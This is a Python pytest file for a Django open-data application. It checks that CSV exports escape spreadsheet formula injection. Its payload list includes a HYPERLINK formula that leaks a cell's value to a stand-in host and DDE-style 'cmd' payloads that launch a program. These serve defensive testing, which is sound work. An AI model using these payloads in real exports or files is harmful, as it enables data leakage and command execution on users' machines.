"""Every open-data CSV neutralises cells a spreadsheet would run as a formula (OWASP CSV injection)."""

from __future__ import annotations

import csv
import datetime
import io
import re

import pytest
from django.urls import reverse

from regio.arrangements.tests.factories import ArrangementFactory
from regio.commitments.tests.factories import CommitmentFactory
from regio.meetings.tests.agreement_factories import AgreementFactory
from regio.meetings.tests.meeting_factories import MeetingFactory
from regio.publication.exports.tables import TABLES
from regio.topics.tests.factories import ResultFactory, TopicFactory

# What an editor typed, and the cell a spreadsheet must get.
PAYLOADS = [
    ('=HYPERLINK("https://x.example/?x="&A1,"Klik")', '\'=HYPERLINK("https://x.example/?x="&A1,"Klik")'),
    ("+31 71 516 5111", "'+31 71 516 5111"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
]
NUMBER = re.compile(r"-?\d+(,\d+)?")


def read_csv(response) -> list[list[str]]:
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline=""), delimiter=";"))


@pytest.fixture
def payload_region(world):
    region, own = world.region, world.own
    for n, (text, _expected) in enumerate(PAYLOADS):
        topic = TopicFactory(region=region, title=text, slug=f"onderwerp-{n}", description=text, proposed_by=own)
        ResultFactory(topic=topic, description=text)
        AgreementFactory(region=region, title=text, participants=[own], topic=topic, made_on=datetime.date(2019, 2, 1))
        CommitmentFactory(region=region, title=text, topic=topic, recipient_councils=[own])
        MeetingFactory(region=region, title=text)
        ArrangementFactory(region=region, name=text, slug=f"regeling-{n}", participants=[own])
    return region


def test_topic_titles_arrive_as_text(payload_region, client):
    url = reverse("open-data:csv", kwargs={"region": payload_region.slug, "entity": "onderwerpen"})
    rows = read_csv(client.get(url))
    header, data = rows[0], rows[1:]
    titles = sorted(row[header.index("titel")] for row in data)
    assert titles == sorted(expected for _text, expected in PAYLOADS)


@pytest.mark.parametrize("name", [*sorted(TABLES), "regelingen"])
def test_no_cell_of_any_csv_starts_a_formula(payload_region, client, name):
    url = (reverse("open-data:register-csv", kwargs={"region": payload_region.slug}) if name == "regelingen"
           else reverse("open-data:csv", kwargs={"region": payload_region.slug, "entity": name}))
    rows = read_csv(client.get(url))
    assert len(rows) > 1
    live = [cell for row in rows for cell in row
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not NUMBER.fullmatch(cell)]
    assert live == []
    quoted = [cell for row in rows for cell in row if cell.startswith("'=HYPERLINK")]
    assert quoted, "the HYPERLINK payload reaches every table, quoted"
